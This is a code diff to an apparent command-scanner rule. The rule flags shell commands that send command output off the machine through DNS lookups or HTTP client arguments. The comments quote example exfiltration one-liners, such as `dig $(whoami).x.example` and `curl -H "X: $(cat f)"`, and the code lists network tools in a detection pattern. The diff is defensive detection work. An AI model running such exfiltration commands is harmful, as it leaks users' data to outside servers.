@@ -309,15 +309,19 @@ export const fileServer: Rule = ({ args, ctx }) => {
 /** A command's output put into a host name or URL (`dig $(whoami).x.example`) leaves the machine in the lookup itself. */
 export function outputInAddress(input: RuleInput): Finding[] {
   if (!/^(dig|nslookup|host|ping|ping6|curl|wget|nc|ncat|traceroute|drill|http|https)$/.test(input.prog)) return [];
+  // An HTTP client sends every word it is given somewhere (a header, a form field, the query): `curl -H "X: $(cat f)" URL`.
+  const http = /^(curl|wget|http|https|xh)$/.test(input.prog);
   const carrier = input.args.find((w) =>
-    /(\$\(|`)[^)`]*(\)|`)[\w.-]*\.[a-z]{2,}|^https?:\/\/[^ ]*(\$\(|`)/i.test(w.text),
+    http ? /\$\(|`/.test(w.text) : /(\$\(|`)[^)`]*(\)|`)[\w.-]*\.[a-z]{2,}|^https?:\/\/[^ ]*(\$\(|`)/i.test(w.text),
   );
   return carrier
     ? [
         finding(
           'network-upload',
           S.notable,
-          `sends the output of a command to a server inside an address (${carrier.text.slice(0, 50)})`,
+          http && !/^https?:\/\//i.test(carrier.text)
+            ? `sends the output of a command off the machine in what ${input.prog} sends (${carrier.text.slice(0, 50)})`
+            : `sends the output of a command to a server inside an address (${carrier.text.slice(0, 50)})`,
         ),
       ]
     : [];
